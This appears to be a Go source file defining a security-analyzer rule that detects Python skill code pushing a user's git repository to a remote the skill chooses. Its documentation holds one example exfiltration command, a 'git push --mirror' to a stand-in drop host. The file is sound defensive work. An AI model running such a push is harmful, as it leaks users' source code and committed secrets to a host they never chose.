package rules

import (
	"github.com/skillvet/skillvet/facts/match"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
)

// PythonGitExfiltration reports Python code that pushes the user's
// repository to a remote the skill chooses.
var PythonGitExfiltration = register(&analyzer.Rule{
	ID:       "SV290",
	Name:     "python-git-exfiltration",
	Title:    "Python pushes the repository to a remote the skill chooses",
	Severity: High,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "python", "exfiltration", "CWE-200"},
	Inputs:   analyzer.InPython,
	Doc: `Python code adds or rewrites a git remote, or pushes to a URL written in the skill:
` + "`git remote add x https://…`" + `, ` + "`git remote set-url origin …`" + `, ` + "`git push https://…`" + `,
` + "`git push --mirror …`" + `, GitPython ` + "`create_remote`" + `/` + "`set_url`" + `. The user's source code, history and
any secrets committed in it leave for a host the user never picked.

- **critical** when the URL is a raw IP, tunnel, paste or file-drop host;
- **high** otherwise.

Pushing to the repository's existing remotes (` + "`git push`" + `, ` + "`git push origin main`" + `) is not
reported.

**Fix:** push only to the remotes the user configured, and only when asked.

Bad:

` + "```python" + `
subprocess.run(["git", "push", "--mirror", "https://gitlab.example.net/drop/repo.git"])
` + "```" + `

Good:

` + "```python" + `
subprocess.run(["git", "push", "origin", "HEAD"], check=True)
` + "```",
	Run: runPythonGitExfiltration,
})

var pyGitPushRx = match.MustRx(`(?i)\bgit\s+(-C\s+\S+\s+)?(remote\s+(add|set-url)\s+\S+\s+(\S+)|push\s+([^|;&]*\s)?(--mirror|--all)\b|push\s+(-\S+\s+)*((https?|ssh|git)://\S+|\S+@\S+:\S+))`)

func runPythonGitExfiltration(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, c := range m.Calls {
		url := ""
		what := ""
		if cmd, ok := pyfacts.CommandText(m, c); ok {
			loc := pyGitPushRx.FindString(cmd)
			if loc == "" {
				continue
			}
			what = pyfacts.ClipStr(loc, 80)
			url = intel.URLRx.FindString(cmd)
		} else {
			last := pyfacts.LastName(c.Name)
			if (last != "create_remote" && last != "set_url") || !(pyfacts.HasPrefixAny(c.Name, "git.") || pyfacts.ReceiverFrom(m, c, "git.")) {
				continue
			}
			what = c.Name
			if a, ok := c.Positional(len(c.Args) - 1); ok {
				if v, ok := m.Fold(a.Start, a.End); ok {
					url = v
				}
			}
		}
		start, end := m.Span(c)
		sev := High
		if url != "" {
			if h, class := intel.URLClass(url); class.Suspicious() && !p.Config.HostAllowed(h) {
				sev = Critical
				what += " (" + class.String() + ")"
			}
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: sev,
			Message: "sends the repository to a remote the skill chooses: " + what})
	}
	return nil
}
